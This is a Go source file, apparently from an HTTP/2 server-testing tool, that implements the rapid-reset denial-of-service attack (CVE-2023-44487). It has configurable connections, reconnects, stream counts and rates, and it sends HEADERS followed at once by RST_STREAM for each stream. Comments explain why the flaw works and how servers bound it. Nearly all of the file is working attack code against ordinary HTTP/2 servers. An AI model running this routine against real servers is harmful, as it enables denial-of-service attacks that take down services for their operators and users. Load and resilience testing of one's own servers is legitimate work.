package h2attack

import (
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// RapidResetParams: rapid-reset (CVE-2023-44487) opens a stream with a
// request's HEADERS and cancels it at once with RST_STREAM(CANCEL), over
// and over on each connection. The client never has more than one stream
// open, so MAX_CONCURRENT_STREAMS does not stop it; a server that starts
// work per stream (a handler goroutine, a backend request) and frees it
// only later does unbounded work. A healthy server bounds the work in
// flight (grpc-go: no more handlers than MAX_CONCURRENT_STREAMS, reading
// stops meanwhile) or closes the connection with GOAWAY.
type RapidResetParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Streams opened and reset per connection. Default 100000.
	Streams int `yaml:"streams"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is streams per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 1000.
	Rate float64 `yaml:"-"`
}

// DefaultRapidReset returns rapid-reset's defaults.
func DefaultRapidReset() RapidResetParams {
	return RapidResetParams{Connections: 1, Reconnect: true, Streams: 100_000, Duration: 30 * time.Second, Rate: 1000}
}

func (p *RapidResetParams) limits() limits {
	return limits{connections: p.Connections, count: p.Streams, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *RapidResetParams) Validate() error { return p.limits().validate("rapid-reset", "streams") }

// SetRate implements Params.
func (p *RapidResetParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *RapidResetParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *RapidResetParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "rapid-reset", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "rapid-reset", lim: p.limits(),
		describe: "HEADERS then RST_STREAM(CANCEL) per stream",
		loop: func(ctx context.Context, c *conn) (string, error) {
			return c.pace(ctx, p.Streams, p.Rate, func(int) error {
				id, ok := c.newStream()
				if !ok {
					return errIDsExhausted
				}
				block := c.requestBlock(false)
				return c.send(2, func(fr *http2.Framer) error {
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
						return err
					}
					return fr.WriteRSTStream(id, http2.ErrCodeCancel)
				})
			})
		}}, report)
}

func init() {
	register(Attack{Name: "rapid-reset", Summary: "HEADERS then RST_STREAM, over and over (CVE-2023-44487)",
		Params: func() Params { p := DefaultRapidReset(); return &p }})
}
